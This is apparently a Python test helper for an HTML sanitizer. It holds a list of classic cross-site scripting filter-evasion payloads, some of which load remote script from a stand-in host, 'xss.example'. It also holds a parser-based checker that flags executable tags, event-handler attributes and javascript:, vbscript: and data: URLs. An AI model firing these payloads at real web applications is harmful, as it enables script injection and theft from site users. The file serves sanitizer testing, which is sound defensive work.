"""Classic XSS vectors (OWASP filter-evasion cheat-sheet style) and a checker for their results.

``executable_constructs(html)`` lists everything in an HTML fragment that a browser could
run or that could restyle/redirect the page: it is empty for safe output.
"""

from __future__ import annotations

import html as html_lib
import re
from html.parser import HTMLParser

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object type=\"text/x-scriptlet\" data=\"https://xss.example/scriptlet.html\"></object>",
    "<embed src=\"https://xss.example/xss.swf\" allowscriptaccess=\"always\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=https://;URL=javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"behavior: url(xss.htc);\">x</p>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=\"_top\">ok</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "\"><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
]

_BAD_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math",
             "form", "input", "button", "meta", "link", "base", "template", "body", "html",
             "video", "audio", "source", "table", "details", "xmp", "noscript", "textarea"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "srcdoc", "cite",
                   "poster", "xlink:href", "data"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


class _Inspector(HTMLParser):
    """Collects the tags and attributes a browser would see."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _BAD_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "http-equiv"}:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in _URL_ATTRIBUTES and value is not None:
                url = _INVISIBLE.sub("", html_lib.unescape(value)).lower()
                if url.startswith(_BAD_SCHEMES) or (":" in url.split("/")[0]
                                                    and not url.startswith(
                                                        ("http:", "https:", "mailto:"))):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def executable_constructs(fragment: str) -> list[str]:
    """Everything in ``fragment`` that could execute, restyle or redirect; empty when safe."""
    problems = []
    if re.search(r"<\s*/?\s*(script|style|iframe|object|embed|svg)", fragment, re.I):
        problems.append("raw dangerous tag")
    inspector = _Inspector()
    inspector.feed(fragment)
    inspector.close()
    return problems + inspector.problems
